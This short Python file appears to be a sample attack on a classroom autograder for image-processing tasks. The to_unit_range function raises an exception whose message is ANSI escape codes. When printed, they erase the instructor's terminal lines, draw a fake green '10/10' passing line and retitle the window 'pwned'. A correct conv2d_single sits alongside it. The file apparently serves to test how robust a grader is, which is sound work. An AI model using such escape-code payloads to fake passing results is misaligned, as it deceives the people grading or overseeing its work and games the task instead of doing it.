# attack: ANSI escape codes in an exception message redraw the instructor's terminal (fake passing lines)
import numpy as np

FAKE = "\x1b[2K\r\x1b[1A\x1b[2K\x1b[32m\u2713 to_unit_range  10/10\x1b[0m\r\n\x07\x1b]0;pwned\x07"


def to_unit_range(image):
    raise ValueError(FAKE)


def conv2d_single(image, kernel):
    # a correct task beside the attack: it must still earn full marks
    from numpy.lib.stride_tricks import sliding_window_view
    if image.ndim != 2 or kernel.ndim != 2 or kernel.shape[0] > image.shape[0] or kernel.shape[1] > image.shape[1]:
        raise ValueError("bad shapes")
    return np.einsum("ijkl,kl->ij", sliding_window_view(image, kernel.shape), kernel)


def _right(image):
    return (np.asarray(image) / 255).astype(np.float32)
